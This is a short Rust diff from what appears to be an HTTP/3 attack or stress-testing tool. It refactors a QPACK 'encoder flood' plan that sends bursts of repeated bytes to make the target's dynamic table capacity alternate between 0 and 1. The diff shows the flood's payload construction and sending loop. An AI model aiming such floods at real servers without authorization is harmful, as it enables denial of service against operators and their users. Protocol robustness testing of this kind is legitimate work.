@@ -1,9 +1,8 @@
 //! QPACK encoder instructions without effect.
 
 use crate::attack::{Plan, Victim};
-use crate::http;
 
-use super::{Crowd, crowd};
+use super::Crowd;
 
 /// The entry of the attack in the list.
 pub(super) const PLAN: Plan = Plan {
@@ -15,16 +14,13 @@ pub(super) const PLAN: Plan = Plan {
 };
 
 fn encoder_flood() -> Crowd {
-    Crowd::new(2, |connection, progress, _| {
-        let id = http::uni_stream(http::ENCODER);
+    Crowd::of_clients(2, |connection, progress, _| {
         // Capacities 0 and 1 alternate. Each empties the dynamic table.
         let bytes = [0x20, 0x21].repeat(500);
         for _ in 0..BURST {
-            connection.push_bytes(http::stream(id, progress.encoder, &bytes, false));
-            progress.encoder += bytes.len() as u64;
+            progress.push_encoder(connection, &bytes);
         }
     })
-    .with_begin(crowd::preface)
 }
 
 /// Packets of one connection in one turn.
